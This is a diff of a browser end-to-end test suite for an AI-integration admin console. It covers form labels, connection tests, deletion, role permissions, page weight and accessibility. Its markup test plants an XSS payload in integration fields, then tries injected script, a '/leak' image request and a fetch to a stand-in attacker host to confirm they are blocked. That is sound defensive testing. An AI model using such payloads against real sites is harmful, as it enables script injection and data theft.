@@ -8,6 +8,7 @@ const { CONSOLE_URL, ADMIN_KEY, MEMBER_KEY, READER_KEY, CROWD_KEY, PROVIDER_URL,
 const API = CONSOLE_URL.replace(/console$/, "");
 const WIDE = { width: 1280, height: 900 };
 const NARROW = { width: 390, height: 844 };
+const NOT_LOADED = { responseBodySize: 0, responseHeadersSize: 0 };
 const GOOD_KEY = "sk-fake-console-good";
 const BAD_KEY = "sk-fake-console-bad";
 const MARKUP = "<img src=x onerror=\"window.attacked = true\">";
@@ -106,7 +107,7 @@ const KINDS = {
 
 async function fill(page, fields) {
   for (const [label, value] of Object.entries(fields)) {
-    const control = page.getByLabel(label).first();
+    const control = page.getByLabel(new RegExp(`^${label}( \\(required\\))?$`)).first();
     if (await control.evaluate((each) => each.tagName === "SELECT")) await control.selectOption(value);
     else await control.fill(value);
   }
@@ -149,7 +150,7 @@ async function fieldMessages() {
 async function conflict() {
   const integration = await create("Conflict", { model_names: ["first"] });
   const page = await signedIn(`#/edit/${integration.id}`);
-  await page.getByLabel("Name").fill("Conflict, mine");
+  await page.getByLabel(/^Name/).fill("Conflict, mine");
   await api("PATCH", `ai-integrations/${integration.id}`, { name: "Conflict, theirs", model_names: ["second"] });
   await button(page, "Save").click();
   const dialog = page.getByRole("dialog");
@@ -167,7 +168,7 @@ async function edit() {
   await page.getByLabel("Headers").fill("X-Team: two");
   await page.getByLabel("Visible to").fill("Research / Search");
   await page.keyboard.press("Enter");
-  await page.getByLabel("Models").fill("typed-model");
+  await page.getByLabel("Models", { exact: true }).fill("typed-model");
   await page.keyboard.press("Enter");
   await button(page, "Save").click();
   await announced(page, "was saved");
@@ -202,7 +203,7 @@ async function rotation() {
 
 async function connection() {
   const failing = await create("Failing", { api_key: BAD_KEY });
-  const passing = await create("Passing", { model_names: ["console-model"] });
+  const passing = await create("Passing", { model_names: ["tiny-1"] });
   const results = {};
   for (const integration of [failing, passing]) {
     const page = await signedIn(addressOf(integration));
@@ -212,12 +213,12 @@ async function connection() {
     results[integration.name] = { text: await card.innerText(), steps: await card.getByRole("listitem").count(), focus: await page.evaluate(() => document.activeElement.textContent) };
   }
   const page = await signedIn(`#/edit/${passing.id}`);
-  await page.locator("datalist option").first().waitFor({ state: "attached" });
-  results.suggested = await page.locator("datalist option").evaluateAll((all) => all.map((each) => each.value));
+  await page.locator("datalist option[value=tiny-1]").waitFor({ state: "attached" });
+  results.suggested = await page.getByLabel("Models", { exact: true }).evaluate((entry) => [...entry.list.options].map((each) => each.value));
   const fresh = await signedIn("#/new");
   await fill(fresh, { Name: "Unsaved", Provider: "CUSTOM", "Base URL": PROVIDER_URL, "API key": GOOD_KEY });
   await button(fresh, "Test before saving").click();
-  await fresh.getByText("Authenticated").waitFor();
+  await fresh.getByText("Passed").first().waitFor();
   results.unsaved = await fresh.getByRole("region", { name: "Connection test" }).innerText();
   return results;
 }
@@ -228,7 +229,7 @@ async function grants() {
   await button(page, "Grant access").click();
   const dialog = page.getByRole("dialog");
   await dialog.getByLabel("ARN of the IAM role or user").fill("arn:aws:iam::111122223333:role/console-consumer");
-  await dialog.getByLabel("Name").fill("Console consumer");
+  await dialog.getByLabel(/^Name/).fill("Console consumer");
   await dialog.getByLabel("Integrations").fill("Granted too");
   await dialog.locator("datalist option[value='Granted too']").waitFor({ state: "attached" });
   await page.keyboard.press("Enter");
@@ -248,8 +249,7 @@ async function grants() {
 }
 
 async function deletion() {
-  const integration = await create("Deletion");
-  await api("POST", "consumers", { principal_arn: "arn:aws:iam::111122223333:role/user-of-deletion", integration_ids: [integration.id], name: "User of it" });
+  const [integration] = (await api("GET", "ai-integrations?name=Deletion")).ai_integrations; // in use already
   const page = await signedIn(addressOf(integration));
   await button(page, "Delete").click();
   const dialog = page.getByRole("dialog");
@@ -257,10 +257,11 @@ async function deletion() {
   await button(dialog, "Delete").click();
   await announced(page, "was deleted");
   const gone = await api("GET", `ai-integrations/${integration.id}`);
+  const listed = await page.getByRole("row").filter({ hasText: "Deletion" }).innerText();
   await button(page, "Restore Deletion").click();
   await announced(page, "was restored");
   await page.getByText("Settings", { exact: true }).waitFor();
-  return { question, gone: gone.status, restored: (await api("GET", `ai-integrations/${integration.id}`)).name, heading: await headingText(page) };
+  return { question, listed, gone: gone.status, restored: (await api("GET", `ai-integrations/${integration.id}`)).name, heading: await headingText(page) };
 }
 
 async function roles() {
@@ -277,7 +278,7 @@ async function roles() {
     await page.getByText("Settings", { exact: true }).waitFor();
     const acts = await page.locator("main").getByRole("button").allInnerTexts();
     await page.goto(`${CONSOLE_URL}#/edit/${own.id}`);
-    await page.getByLabel("Name").fill(`Of Research, by a ${role}`);
+    await page.getByLabel(/^Name/).fill(`Of Research, by a ${role}`);
     await button(page, "Save").click();
     await page.locator("#status:not(:empty), [role=alert]:not(:empty)").first().waitFor();
     seen[role] = { secret: names.includes(secret.name), shared: names.includes(shared.name), links, acts, edit: await page.locator("main, #status").allInnerTexts() };
@@ -288,6 +289,8 @@ async function roles() {
 async function markup() {
   const hostile = await create(`Hostile ${MARKUP}`, { model_names: [`model ${MARKUP}`], headers: { "X-Hostile": MARKUP }, api_key: BAD_KEY });
   const page = await signedIn("#/integrations", { quiet: true });
+  const said = { status: "failed", rungs: [{ name: "reachable", status: "failed", latency_ms: 1, not_proved: MARKUP, provider_said: `Provider ${MARKUP}` }] };
+  await page.route("**/test", (route) => route.fulfill({ json: said }));
   await page.getByRole("link", { name: hostile.name }).click();
   await button(page, "Test the connection").click();
   await announced(page, "The test has ended");
@@ -303,12 +306,9 @@ async function markup() {
     attempt("text of a script", () => { script.text = "window.attacked = true"; });
     script.append("window.attacked = true");
     document.head.append(script);
-    const frame = document.createElement("iframe");
-    frame.src = "about:blank#x";
-    const image = new Image();
-    image.src = "/leak?";
-    await new Promise((resolve) => { setTimeout(resolve, 300); });
+    new Image().src = "/leak";
     await fetch("http://attacker.example/").catch(() => {});
+    await new Promise((resolve) => { setTimeout(resolve, 300); });
     return { outcomes, directives };
   });
   return { shown, images: await page.locator("main img").count(), attacked: await page.evaluate(() => window.attacked ?? false), blocked };
@@ -317,10 +317,12 @@ async function markup() {
 // What the first view of an account with 1,000 integrations loads, and how long it takes.
 async function crowd() {
   const page = await open();
-  let bytes = 0;
-  page.on("response", async (response) => { bytes += (await response.body()).length; });
+  await page.waitForLoadState("networkidle");
+  const sizes = [];
+  page.on("requestfinished", (request) => request.url().includes("/console") && sizes.push(request.sizes().catch(() => NOT_LOADED)));
+  const loaded = async () => ({ files: sizes.length, bytes: (await Promise.all(sizes)).reduce((sum, each) => sum + each.responseBodySize + each.responseHeadersSize, 0) });
   await page.reload({ waitUntil: "networkidle" });
-  const files = { bytes, milliseconds: await page.evaluate(() => performance.getEntriesByType("navigation")[0].loadEventEnd) };
+  const files = { ...await loaded(), milliseconds: await page.evaluate(() => performance.getEntriesByType("navigation")[0].loadEventEnd) };
   await page.getByLabel("Access key").fill(CROWD_KEY);
   const started = performance.now();
   await button(page, "Sign in").click();
@@ -329,13 +331,18 @@ async function crowd() {
   await button(page, "Show more").click();
   await page.getByRole("row").nth(100).waitFor();
   const shown = await page.getByRole("row").count();
-  await page.getByLabel("Name").fill("number 99");
+  await page.getByLabel(/^Name/).fill("number 99");
   await page.getByText("11 integrations", { exact: true }).waitFor();
   const found = await page.getByRole("rowheader").allInnerTexts();
-  await page.getByLabel("Name").fill("");
+  await page.getByLabel(/^Name/).fill("");
   await page.getByLabel("Provider").selectOption("GEMINI");
   await page.getByText("No integration matches").waitFor();
-  return { files, milliseconds, shown, found };
+  for (const view of ["#/keys", "#/deleted", "#/consumers", "#/audit", "#/new"]) {
+    await page.goto(CONSOLE_URL + view);
+    await page.locator("h1").waitFor();
+  }
+  await page.waitForLoadState("networkidle");
+  return { files, all: await loaded(), milliseconds, shown, found };
 }
 
 async function keyboard() {
@@ -352,41 +359,49 @@ async function keyboard() {
 }
 
 // ---------------------------------------------------------------- looks
-async function look(view, hash, steps, viewport, colorScheme) {
-  const page = await signedIn(hash, { viewport, colorScheme });
-  await page.waitForLoadState("networkidle");
-  for (const name of steps) await button(page, name).first().click();
-  if (steps.length) await page.waitForLoadState("networkidle");
+async function look(page, view, element, hash, act, name) {
+  await page.goto(CONSOLE_URL + hash);
+  await page.locator(`${element} h1`).waitFor();
+  await page.waitForFunction(() => !/Loading|…/.test(document.querySelector("main").innerText));
+  if (act) {
+    await button(page, act).first().click();
+    await page.getByRole("dialog").waitFor();
+  }
   await page.evaluate(() => document.activeElement.blur());
-  if (SHOTS) await page.screenshot({ path: `${SHOTS}/${view}-${viewport.width}-${colorScheme}.png`, fullPage: !steps.length });
-  const { violations } = await page.evaluate(`${axe.source}; axe.run()`);
+  if (SHOTS) await page.screenshot({ path: `${SHOTS}/${view}-${name}.png`, fullPage: !act });
+  const { violations } = await page.evaluate("axe.run()");
   const outside = await page.locator("main *, dialog *").evaluateAll((all) =>
     all.filter((each) => each.checkVisibility() && !each.closest("thead, svg") && each.getBoundingClientRect().right > innerWidth + 1).map((each) => each.outerHTML.slice(0, 80)));
-  await page.context().close();
-  return [...violations.flatMap(({ id, nodes }) => nodes.map(({ target }) => `${view}: ${id}: ${target}`)), ...outside];
+  if (act) await page.keyboard.press("Escape");
+  return [...violations.flatMap(({ id, nodes }) => nodes.map(({ target }) => `${view}-${name}: ${id}: ${target}`)), ...outside];
 }
 
 async function looks(integration) {
   const one = addressOf(integration);
   const views = [
-    ["list", "#/integrations", []], ["integration", one, []], ["new", "#/new", []], ["edit", `#/edit/${integration.id}`, []],
-    ["deleted", "#/deleted", []], ["consumers", "#/consumers", []], ["rotate", one, ["Rotate key"]], ["grant", "#/consumers", ["Grant access"]],
+    ["list", "integration-list", "#/integrations"], ["integration", "integration-page", one],
+    ["new", "integration-editor", "#/new"], ["edit", "integration-editor", `#/edit/${integration.id}`],
+    ["keys", "key-list", "#/keys"], ["deleted", "deleted-list", "#/deleted"], ["consumers", "consumer-list", "#/consumers"], ["audit", "audit-log", "#/audit"],
+    ["rotate", "integration-page", one, "Rotate key"], ["delete", "integration-page", one, "Delete"], ["grant", "consumer-list", "#/consumers", "Grant access"],
   ];
   const found = [];
-  for (const view of views) {
-    for (const viewport of [WIDE, NARROW]) {
-      for (const scheme of ["light", "dark"]) found.push(...await look(...view, viewport, scheme));
+  for (const viewport of [WIDE, NARROW]) {
+    for (const colorScheme of ["light", "dark"]) {
+      const page = await signedIn("#/integrations", { viewport, colorScheme });
+      await page.evaluate(axe.source);
+      for (const [view, element, hash, act] of views) found.push(...await look(page, view, element, hash, act, `${viewport.width}-${colorScheme}`));
+      await page.context().close();
     }
   }
   return found;
 }
 
 try {
-  const integration = await create("Looks", { model_names: ["console-model"], headers: { "X-Team": "research" } });
+  const integration = await create("Looks", { model_names: ["tiny-1"], headers: { "X-Team": "research" } });
   await api("POST", `ai-integrations/${integration.id}/test`);
   const observed = {
     session: await session(), kinds: await kinds(), fields: await fieldMessages(), conflict: await conflict(), edit: await edit(),
-    connection: await connection(), grants: await grants(), deletion: await deletion(), roles: await roles(),
+    rotation: await rotation(), connection: await connection(), grants: await grants(), deletion: await deletion(), roles: await roles(),
     markup: await markup(), crowd: await crowd(), keyboard: await keyboard(), looks: await looks(integration),
   };
   console.log(JSON.stringify({ ...observed, errors, hosts: [...hosts] }));
